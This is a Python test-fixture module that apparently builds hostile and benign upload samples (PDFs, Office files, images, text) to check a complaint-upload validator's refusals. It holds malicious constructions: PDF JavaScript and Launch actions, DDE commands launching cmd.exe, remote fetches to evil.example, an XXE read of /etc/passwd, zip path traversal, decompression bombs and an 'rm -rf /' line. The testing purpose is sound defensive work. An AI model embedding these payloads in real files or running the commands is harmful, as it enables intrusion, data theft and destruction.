"""The corpus: each file with the name and type it is sent under, and what must become of it."""

import struct
import zipfile
import zlib
from dataclasses import dataclass
from io import BytesIO

from PIL import Image

from tests.complaints.uploads import samples as s

JPEG, PNG, PDF, TXT = "image/jpeg", "image/png", "application/pdf", "text/plain"
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ" + bytes(range(256)) * 8


@dataclass(frozen=True)
class Sample:
    """A file; ``refused`` is the code of the refusal, None for a file that is taken."""

    name: str
    declared: str
    content: bytes
    refused: str | None = None


def _pdf_hostile() -> list[Sample]:
    action, annotation = s.pdf_with_action, "/Annots [<< /Type /Annot /Rect [0 0 9 9] {} >>]"
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>"
    embedded = {10: spec, 11: s.pdf_stream("/Type /EmbeddedFile", b"MZ")}
    bomb = s.packed_zeros(600)
    rows = [
        ("script-on-link", action("/S /JavaScript /JS (app.alert\\(1\\))"), "script"),
        ("script-hidden-name", action("/S /J#61vaScript /J#53 (app.alert\\(1\\))"), "script"),
        ("script-on-open", s.pdf(catalog="/OpenAction << /S /JavaScript /JS 10 0 R >>", objects={10: b"(x)"}),
         "script"),
        ("script-by-name", s.pdf(catalog="/Names << /JavaScript << /Names [(a) 10 0 R] >> >>",
                                 objects={10: b"<< /S /JavaScript /JS (x) >>"}), "script"),
        ("script-on-page", s.pdf(page="/AA << /O << /S /JavaScript /JS (x) >> >>"), "script"),
        ("script-second", action("/S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >>"), "script"),
        ("script-in-object-stream", s.pdf(catalog="/OpenAction 10 0 R", objects={
            10: b"<< /S /JavaScript /JS (x) >>"}), "script"),
        ("launch", action("/S /Launch /F (cmd.exe)"), "script"),
        ("launch-windows", action("/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>"), "script"),
        ("submit", action("/S /SubmitForm /F (http://evil.example/)"), "script"),
        ("import", action("/S /ImportData /F (x.fdf)"), "script"),
        ("unknown-action", action("/S /Evaporate"), "script"),
        ("xfa", s.pdf(catalog="/AcroForm << /XFA 10 0 R >>", objects={10: s.pdf_stream("", b"<xdp/>")}), "script"),
        ("remote-document", action(r"/S /GoToR /F (\\\\host\\share) /D [0 /Fit]"), "external"),
        ("file-link", action("/S /URI /URI (file:///c:/windows/system32/calc.exe)"), "external"),
        ("script-link", action("/S /URI /URI (javascript:alert\\(1\\))"), "external"),
        ("embedded-target", action("/S /GoToE /T << /R /C /N (a) >>"), "embedded"),
        ("attachment", s.pdf(catalog="/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>", objects=embedded),
         "embedded"),
        ("attachment-associated", s.pdf(catalog="/AF [10 0 R]", objects=embedded), "embedded"),
        ("attachment-note", s.pdf(page=annotation.format("/Subtype /FileAttachment /FS 10 0 R"), objects=embedded),
         "embedded"),
        ("portfolio", s.pdf(catalog="/Collection << /View /D >>"), "embedded"),
        ("film", s.pdf(page=annotation.format("/Subtype /RichMedia /RichMediaContent << >>")), "embedded"),
        ("sound", s.pdf(page=annotation.format("/Subtype /Sound")), "embedded"),
        ("data-elsewhere", s.pdf(objects={19: s.pdf_stream("/Type /XObject /Subtype /Form /F (http://evil/)", b"")}),
         "external"),
        ("encrypted", s.pdf(objects={10: b"<< /Filter /Standard /V 1 /R 2 /O (" + b"a" * 32 + b") /U (" + b"b" * 32
                                        + b") /P -1 >>"}, trailer="/Encrypt 10 0 R /ID [(0123456789abcdef) (a)]"),
         "encrypted"),
        ("bomb", s.pdf(objects={19: s.pdf_stream("/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Filter /FlateDecode",
                                                 bomb)}), "unpacks_too_large"),
        ("bomb-twice", s.pdf(objects={19: s.pdf_stream("/Subtype /Form /Filter [/FlateDecode /FlateDecode]",
                                                       zlib.compress(bomb))}), "unpacks_too_large"),
        ("vast-picture", s.pdf(objects={19: s.pdf_stream(
            "/Subtype /Image /Width 99999 /Height 99999 /Filter /CCITTFaxDecode", b"x")}), "too_many_pixels"),
        ("truncated", s.report()[:700], "damaged"),
        ("no-pages", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF", "damaged"),
        ("only-a-head", b"%PDF-1.7\n", "damaged"),
        ("nested-arrays", s.pdf(objects={19: b"[" * 50_000 + b"]" * 50_000}), "damaged"),
        ("not-at-byte-0", b"\n" + s.pdf(), "content"),
        ("html-before", HTML + s.pdf(), "content"),
        ("false-version", s.pdf(head=b"%PDF-x\n"), "content"),
        ("zip-behind", s.pdf(tail=s.archive({"a.txt": "x"})), "two_kinds"),
    ]  # fmt: skip
    return [Sample(f"{name}.pdf", PDF, content, refused) for name, content, refused in rows]


def _office_hostile() -> list[Sample]:
    word, sheet = s.docx, s.xlsx
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    vba = "application/vnd.ms-office.vbaProject"
    macro_rel = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    plain = s.docx()

    def field(*pieces: str) -> bytes:
        runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
        return word(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')

    words = [
        ("macro", word(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
        ("macro-part", word(parts={"word/vbaProject.bin": ole}, rows=[("rId9", macro_rel, "vbaProject.bin")],
                            endings={"bin": vba}), "macro"),
        ("macro-type-only", word(endings={"bin": vba}), "macro"),
        ("macro-renamed", word(parts={"word/styles.xml": ole}, rows=[("rId9", macro_rel, "styles.xml")]), "macro"),
        ("buttons", word(parts={"customUI/customUI.xml": "<x/>"}, rows=[
            ("rId9", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
             "../customUI/customUI.xml")]), "macro"),
        ("ole", word('<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>',
                     parts={"word/embeddings/oleObject1.bin": ole},
                     rows=[("rId9", "oleObject", "embeddings/oleObject1.bin")]), "embedded"),
        ("ole-without-part", word("<w:p><w:r><w:object/></w:r></w:p>"), "embedded"),
        ("inner-workbook", word(parts={"word/embeddings/a.xlsx": sheet()},
                                rows=[("rId9", "package", "embeddings/a.xlsx")]), "embedded"),
        ("html-chunk", word('<w:altChunk r:id="rId9"/>', parts={"word/a.htm": HTML},
                            rows=[("rId9", "aFChunk", "a.htm")]), "embedded"),
        ("activex", word(parts={"word/activeX/activeX1.xml": "<x/>"},
                         rows=[("rId9", "control", "activeX/activeX1.xml")]), "embedded"),
        ("far-template", word(rows=[("rId9", "attachedTemplate", "http://evil.example/t.dotm", "External")]),
         "external"),
        ("far-picture", word(rows=[("rId9", "image", "http://evil.example/p.png", "External")]), "external"),
        ("far-picture-unmarked", word(rows=[("rId9", "image", "http://evil.example/p.png")]), "external"),
        ("far-frame", word(rows=[("rId9", "frame", "http://evil.example/", "External")]), "external"),
        ("share-link", word(rows=[("rId9", "hyperlink", "file://host/share/a.exe", "External")]), "external"),
        ("script-link", word(rows=[("rId9", "hyperlink", "javascript:alert(1)", "External")]), "external"),
        ("dde", field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '), "external"),
        ("dde-in-pieces", field(" DD", "EAU", 'TO "cmd" "/k calc"'), "external"),
        ("dde-as-references", field("&#68;&#x44;&#69; cmd"), "external"),
        ("dde-simple", word(r'<w:p><w:fldSimple w:instr=" DDE cmd calc"/></w:p>'), "external"),
        ("include-picture", field(' INCLUDEPICTURE "http://evil.example/p.png" '), "external"),
        ("entities", word(parts={"word/settings.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'},
                          rows=[("rId9", "settings", "settings.xml")]), "unsafe_xml"),
        ("entity-from-file", s.archive({
            "[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}), "unsafe_xml"),
        ("unknown-binary", word(parts={"word/a.bin": PROGRAM}, rows=[("rId9", "novelty", "a.bin")],
                                endings={"bin": "application/x-novelty"}), "unknown_part"),
        ("program-as-picture", word(parts={"word/media/a.png": PROGRAM}, rows=[("rId9", "image", "media/a.png")]),
         "unknown_part"),
        ("path-out", word(parts={"../../etc/cron.d/x": "x"}), "damaged"),
        ("path-windows", word(parts={"word\\..\\x": "x"}), "damaged"),
        ("lost-part", word(rows=[("rId9", "styles", "styles.xml")]), "damaged"),
        ("broken-xml", word("<w:p>"), "damaged"),
        ("doubled-entry", _doubled(plain), "damaged"),
        ("something-before", b"#!/bin/sh\n" + plain, "content"),
        ("zip-of-anything", s.archive({"a.exe": PROGRAM}), "content"),
        ("java", s.archive({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}), "content"),
        ("workbook-as-letter", sheet(), "content"),
        ("template", word(main=f"{s.DOCX_TYPE[:-9]}.template.main+xml"), "content"),
        ("password", ole, "old_office"),
        ("html", HTML, "content"),
        ("truncated", s.letter()[:2000], "damaged"),
        ("flipped", _flipped(s.letter()), "damaged"),
        ("bomb-ratio", word(parts={"word/media/a.png": bytes(60 * 1024 * 1024)},
                            rows=[("rId9", "image", "media/a.png")]), "unpacks_too_large"),
        ("bomb-overlapping", s.overlapping_bomb(), "unpacks_too_large"),
        ("bomb-overlapping-small", s.overlapping_bomb(2), "unpacks_too_large"),
        ("bomb-entries", s.archive({f"word/{number}.xml": "x" * 40 for number in range(1001)}), "unpacks_too_large"),
        ("bomb-false-size", s.with_false_size(
            word(parts={"word/styles.xml": "<a>" + "b" * 900_000 + "</a>"}, rows=[("rId9", "styles", "styles.xml")]),
            b"word/styles.xml", 1000), "damaged"),
        ("bomb-claims", s.with_false_size(plain, b"word/document.xml", 4_000_000_000), "unpacks_too_large"),
        ("encrypted-entries", _marked_encrypted(plain), "encrypted"),
    ]  # fmt: skip
    formula = '<row r="1"><c r="A1"><f>{}</f></c></row>'
    sheets = [
        ("macro", sheet(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macro"),
        ("old-macro-sheet", sheet(rows=[
            ("rId9", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml")
        ], parts={"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"),
        ("dialog", sheet(rows=[("rId9", "dialogsheet", "d.xml")], parts={"xl/d.xml": "<x/>"}), "macro"),
        ("macro-name", sheet(workbook='<definedNames><definedName name="Auto_Open" xlm="1">1</definedName>'
                                      "</definedNames>"), "macro"),
        ("other-workbook", sheet(rows=[("rId9", "externalLink", "externalLinks/externalLink1.xml")],
                                 parts={"xl/externalLinks/externalLink1.xml": "<x/>"}), "external"),
        ("connection", sheet(rows=[("rId9", "connections", "connections.xml")],
                             parts={"xl/connections.xml": "<x/>"}), "external"),
        ("query", sheet(sheet_rows=[("rId9", "queryTable", "../q.xml")], parts={"xl/q.xml": "<x/>"}), "external"),
        ("web-formula", sheet(cells=formula.format('WEBSERVICE("http://evil/"&amp;A2)')), "external"),
        ("web-formula-hidden", sheet(cells=formula.format("&#87;EBSERVICE(A1)")), "external"),
        ("dde-cell", sheet(cells=formula.format("cmd|'/c calc'!A0")), "external"),
        ("dde-cell-hidden", sheet(cells=formula.format("cmd|&apos;/c calc&apos;!A0")), "external"),
        ("register", sheet(cells=formula.format('REGISTER("a","b")')), "external"),
        ("call-by-name", sheet(workbook='<definedNames><definedName name="a">CALL("Kernel32","WinExec")</definedName>'
                                        "</definedNames>"), "external"),
        ("embedded", sheet(around='<oleObjects><oleObject progId="Package"/></oleObjects>'), "embedded"),
        ("controls", sheet(around="<controls/>"), "embedded"),
        ("entities", sheet(parts={"xl/sharedStrings.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'},
                           rows=[("rId9", "sharedStrings", "sharedStrings.xml")]), "unsafe_xml"),
        ("letter-as-workbook", plain, "content"),
        ("text", b"a,b\n1,2\n", "content"),
        ("truncated", s.ledger()[:1500], "damaged"),
    ]  # fmt: skip
    return [Sample(f"{name}.docx", s.DOCX_TYPE, content, refused) for name, content, refused in words] + [
        Sample(f"{name}.xlsx", s.XLSX_TYPE, content, refused) for name, content, refused in sheets
    ]


def _picture_hostile() -> list[Sample]:
    jpeg, png = s.photo(), s.screenshot()
    vast = zlib.compress(bytes(30_000 * 3 + 1) * 64, 9)
    return [
        Sample("svg.jpg", JPEG, SVG, "content"),
        Sample("html.png", PNG, HTML, "content"),
        Sample("gif.png", PNG, s.picture("GIF"), "content"),
        Sample("webp.jpg", JPEG, s.picture("WEBP"), "content"),
        Sample("png.jpg", JPEG, png, "content"),
        Sample("jpeg.png", PNG, jpeg, "content"),
        Sample("tiff.jpg", JPEG, s.picture("TIFF"), "content"),
        Sample("program.jpg", JPEG, PROGRAM, "content"),
        Sample("truncated.jpg", JPEG, s.picture(size=(400, 300))[:900], "damaged"),
        Sample("truncated.png", PNG, s.picture("PNG", (400, 300))[:150], "damaged"),
        Sample("head-only.jpg", JPEG, b"\xff\xd8\xff\xe0", "damaged"),
        Sample("head-only.png", PNG, b"\x89PNG\r\n\x1a\n", "damaged"),
        Sample("no-picture.png", PNG, s.png_of(0, 0), "damaged"),
        Sample("flipped.png", PNG, _flipped(s.picture("PNG", (200, 200))), "damaged"),
        Sample("bomb-size.png", PNG, s.png_of(30_000, 30_000, vast), "too_many_pixels"),
        Sample("bomb-41-megapixels.png", PNG, s.png_of(8_200, 5_001, vast), "too_many_pixels"),
        Sample("bomb-size.jpg", JPEG, _vast_jpeg(), "too_many_pixels"),
        Sample("bomb-text.png", PNG, s.png_of(8, 8, extra=s.png_chunk(b"zTXt", b"a\x00\x00" + s.packed_zeros(200))),
               "damaged"),
        Sample("archive-behind.jpg", JPEG, jpeg + s.archive({"a.exe": PROGRAM}), "two_kinds"),
        Sample("archive-behind.png", PNG, png + s.archive({"a.exe": PROGRAM}), "two_kinds"),
        Sample("document-within.jpg", JPEG, b"\xff\xd8" + s.jpeg_segment(0xFE, s.pdf()) + jpeg[2:], "two_kinds"),
    ]  # fmt: skip


def _other_hostile() -> list[Sample]:
    return [
        Sample("page.txt", TXT, HTML, "content"),
        Sample("drawing.txt", TXT, SVG, "content"),
        Sample("wide-page.txt", TXT, HTML.decode().encode("utf-16"), "content"),
        Sample("script.txt", TXT, b"#!/bin/sh\nrm -rf /\n", "content"),
        Sample("rich.txt", TXT, b"{\\rtf1 x}", "content"),
        Sample("archive.txt", TXT, s.archive({"a": "b"}), "content"),
        Sample("document.txt", TXT, s.pdf(), "content"),
        Sample("photo.txt", TXT, s.photo(), "content"),
        Sample("program.txt", TXT, PROGRAM, "not_text"),
        Sample("nul.txt", TXT, b"a\x00b", "not_text"),
        Sample("bell.txt", TXT, b"a\x07b\x1b[31m", "not_text"),
        Sample("latin.txt", TXT, "Straße".encode("latin-1") + b"\xff", "not_text"),
        Sample("text-and-archive.txt", TXT, b"hello\n" + s.archive({"a": "b"}), "two_kinds"),
        Sample("empty.txt", TXT, b"", "empty"),
        Sample("large.txt", TXT, b"a" * (10 * 1024 * 1024 + 1), "too_large"),
        Sample("page.html", "text/html", HTML, "not_taken"),
        Sample("drawing.svg", "image/svg+xml", SVG, "not_taken"),
        Sample("archive.zip", "application/zip", s.archive({"a": "b"}), "not_taken"),
        Sample("program.exe", "application/octet-stream", PROGRAM, "not_taken"),
        Sample("photo.jpg.exe", JPEG, s.photo(), "not_taken"),
        Sample("photo\u202egpj.exe", JPEG, s.photo(), "not_taken"),
        Sample("photo", JPEG, s.photo(), "not_taken"),
        Sample(".jpg", JPEG, s.photo(), "not_taken"),
        Sample("photo.gif", "image/gif", s.picture("GIF"), "not_taken"),
        Sample("letter.doc", "application/msword", b"\xd0\xcf\x11\xe0", "not_taken"),
        Sample("letter.docm", "application/vnd.ms-word.document.macroEnabled.12", s.docx(), "not_taken"),
        Sample("photo.jpg", "text/html", s.photo(), "declared"),
        Sample("photo.jpg", PNG, s.photo(), "declared"),
        Sample("notes.txt", "text/html", b"hello", "declared"),
        Sample("report.pdf", "application/javascript", s.report(), "declared"),
    ]  # fmt: skip


def _doubled(content: bytes) -> bytes:
    """Return an archive with a second entry of a name that differs in case only, as two readers might disagree."""
    out = BytesIO(content)
    with zipfile.ZipFile(out, "a") as target:
        target.writestr("word/DOCUMENT.xml", "<x/>")
    return out.getvalue()


def _flipped(content: bytes) -> bytes:
    """Return the content with a byte changed within its packed data."""
    place = len(content) // 3
    return content[:place] + bytes([content[place] ^ 0xFF]) + content[place + 1 :]


def _marked_encrypted(content: bytes) -> bytes:
    out = bytearray(content)
    place = content.find(b"PK\x01\x02")
    out[place + 8] |= 1
    return bytes(out)


def _vast_jpeg() -> bytes:
    """Return a JPEG whose header claims 65,000 by 65,000 pixels."""
    content = bytearray(s.picture())
    place = content.find(b"\xff\xc0")
    struct.pack_into(">HH", content, place + 5, 65_000, 65_000)
    return bytes(content)


def hostile() -> list[Sample]:
    """Return every file that must be refused."""
    return [*_picture_hostile(), *_pdf_hostile(), *_office_hostile(), *_other_hostile()]


def honest() -> list[Sample]:
    """Return every file that must be taken."""
    text = "投诉材料:\n办事窗口三次退件。\r\n\t附件见后。"
    octets = "application/octet-stream"
    return [
        Sample("photo.jpg", JPEG, s.photo()),
        Sample("PHOTO.JPEG", "image/pjpeg", s.picture(progressive=True)),
        Sample("grey.jpg", JPEG, s.picture(mode="L")),
        Sample("print.jpg", JPEG, s.picture(mode="CMYK")),
        Sample("motion.jpg", JPEG, s.photo() + b"\x00\x00\x00\x18ftypmp42" + bytes(500)),
        Sample("screenshot.png", PNG, s.screenshot()),
        Sample("palette.png", PNG, s.picture("PNG", mode="P")),
        Sample("deep.png", "image/x-png", _deep_png()),
        Sample("bilevel.png", "", s.picture("PNG", mode="1")),
        Sample("40-megapixels.png", PNG, s.picture("PNG", (8_000, 5_000), "L", compress_level=1)),
        Sample("report.pdf", PDF, s.report()),
        Sample("old.pdf", octets, s.pdf(head=b"%PDF-1.3\n")),
        Sample("form.pdf", PDF, s.pdf(catalog="/AcroForm << /Fields [10 0 R] >>", page="/Annots [10 0 R]", objects={
            10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (x) /Rect [0 0 99 20] >>"})),
        Sample("structured.pdf", PDF, s.pdf(catalog="/StructTreeRoot 10 0 R", objects={
            10: b"<< /Type /StructTreeRoot /K 11 0 R >>", 11: b"<< /Type /StructElem /S /Sound /P 10 0 R >>"})),
        Sample("with-an-old-revision.pdf", PDF, s.pdf(tail=b"\n% " + s.SECRET.encode() + b"\n")),
        Sample("letter.docx", s.DOCX_TYPE, s.letter()),
        Sample("plain.docx", "application/wps-office.docx", s.docx()),
        Sample("字.DOCX", octets, s.docx()),
        Sample("ledger.xlsx", s.XLSX_TYPE, s.ledger()),
        Sample("plain.xlsx", "application/wps-office.xlsx", s.xlsx()),
        Sample("notes.txt", TXT, text.encode()),
        Sample("marked.txt", f"{TXT}; charset=utf-8", text.encode("utf-8-sig")),
        Sample("windows.txt", TXT, text.encode("gb18030")),
        Sample("wide.txt", TXT, text.encode("utf-16")),
        Sample("angle.txt", TXT, b"3 < 4, and <b> stands later"),
    ]  # fmt: skip


def _deep_png() -> bytes:
    out = BytesIO()
    Image.new("I;16", (40, 30), 40_000).save(out, "PNG")
    return out.getvalue()
